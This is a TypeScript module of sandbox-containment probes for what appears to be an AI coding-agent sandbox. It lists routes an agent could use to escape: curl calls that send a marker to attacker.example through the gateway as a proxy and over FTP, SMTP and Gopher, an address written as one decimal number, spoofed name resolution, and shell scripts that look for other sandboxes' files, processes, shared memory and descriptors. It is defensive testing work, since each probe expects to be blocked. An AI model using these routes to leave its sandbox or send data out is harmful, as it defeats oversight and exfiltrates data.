/**
 * Other ways to other hosts: proxies, other protocols, the attacker's host outside, and what is left of other
 * sandboxes.
 */
import { curl, notGranted, script, type Place, type Probe } from '../probe.ts';

export function otherDoors(place: Place): readonly Probe[] {
  return [
    curl(
      'proxy-http',
      'the gateway as a proxy',
      ['-x', 'http://127.0.0.1:80', `http://attacker.example/${place.marker}`],
      notGranted,
    ),
    curl(
      'proxy-https',
      'the gateway as a proxy for TLS',
      ['-x', 'http://127.0.0.1:80', `https://attacker.example/${place.marker}`],
      ['curl error 56'],
    ),
    curl(
      'proxy-socks',
      'the gateway as a SOCKS proxy',
      ['-x', 'socks5h://127.0.0.1:80', `http://attacker.example/${place.marker}`],
      ['curl error 97'],
    ),
    curl(
      'proxy-canary',
      'the attacker’s host as a proxy',
      ['-x', `http://127.0.0.1:${place.canary.httpPort}`, `http://attacker.example/${place.marker}`],
      ['curl error 7'],
    ),
    curl(
      'canary-http',
      'the attacker’s host outside over HTTP',
      [`http://127.0.0.1:${place.canary.httpPort}/${place.marker}`],
      ['curl error 7'],
    ),
    curl(
      'canary-https',
      'the same over HTTPS, by a name of this machine',
      ['-k', `https://localhost:${place.canary.httpsPort}/${place.marker}`],
      ['curl error 7'],
    ),
    curl('ftp', 'FTP', [`ftp://attacker.example/${place.marker}`], ['curl error 7']),
    curl(
      'smtp',
      'mail',
      ['--mail-from', 'a@attacker.example', '--mail-rcpt', 'b@attacker.example', 'smtp://attacker.example/'],
      ['curl error 7'],
    ),
    curl(
      'gopher',
      'Gopher on an open port, to write any bytes',
      [`gopher://attacker.example:80/_${place.marker}`],
      ['curl error 52', 'curl error 56', 'curl error 0'],
    ),
    curl(
      'address-decimal',
      'an address as one number',
      [`http://2130706433/${place.marker}`],
      ['403 host.not-granted', '400 host_invalid'],
    ),
    curl(
      'address-name',
      'an address where a name belongs',
      [
        '--resolve',
        '203.0.113.9:443:127.0.0.1',
        '--connect-to',
        '203.0.113.9:443:127.0.0.1:443',
        '-k',
        `https://203.0.113.9/${place.marker}`,
      ],
      ['400 sni_missing', '403 host.not-granted', 'curl error 35'],
    ),
    script(
      'other-files',
      'files of another task’s sandbox',
      'bash',
      'echo own > /tmp/own-file; test "$(cat /tmp/own-file)" = own || exit 1; for f in /tmp /dev/shm /workspace; do cat $f/of-the-other-task 2>/dev/null && seen=SEEN; done; echo "${seen:-not there}"',
      ['not there'],
    ),
    script(
      'other-processes',
      'processes of another task’s sandbox',
      'bash',
      // Its own process must be found.
      "sleep 4712 & pgrep -fx 'sleep 471[12]' | wc -l; kill $!",

      ['1'],
    ),
    script(
      'other-shared-memory',
      'shared memory of another task’s sandbox',
      'bash',
      // Its own segment must be listed.
      'ipcmk -M 100 >/dev/null && ipcs -m | grep -c 0x',
      ['1'],
    ),
    script(
      'other-folders',
      'folders of other sandboxes on this machine',
      'bash',
      `for f in ${place.sandboxFolder} /tmp/airlock-sandboxes-* /airlock /var/tmp; do test -e "$f" && seen+=" $f"; done; test -e /tmp || exit 1; echo "\${seen:-not there}"`,
      ['not there'],
    ),
    script(
      'descriptors',
      'a file or folder of the machine outside, by an open descriptor of any process',
      'bash',
      `exec 9</etc/hosts; all=$(find /proc/[0-9]*/fd -type l -printf '%l\\n' 2>/dev/null); grep -q /etc/hosts <<<"$all" || exit 1; grep -vE '^(pipe|socket|anon_inode|/memfd):|^/(dev/(null|urandom|zero)|var/lib/airlock/[0-9a-f]+/runs/(codex|probes)/(output|errors)|opt|tmp|run/airlock|workspace|home/codex|proc|usr|etc)(/|$| )' <<<"$all" | sort -u | head -n 1 | grep . || echo none`,
      ['none'],
    ),
  ];
}
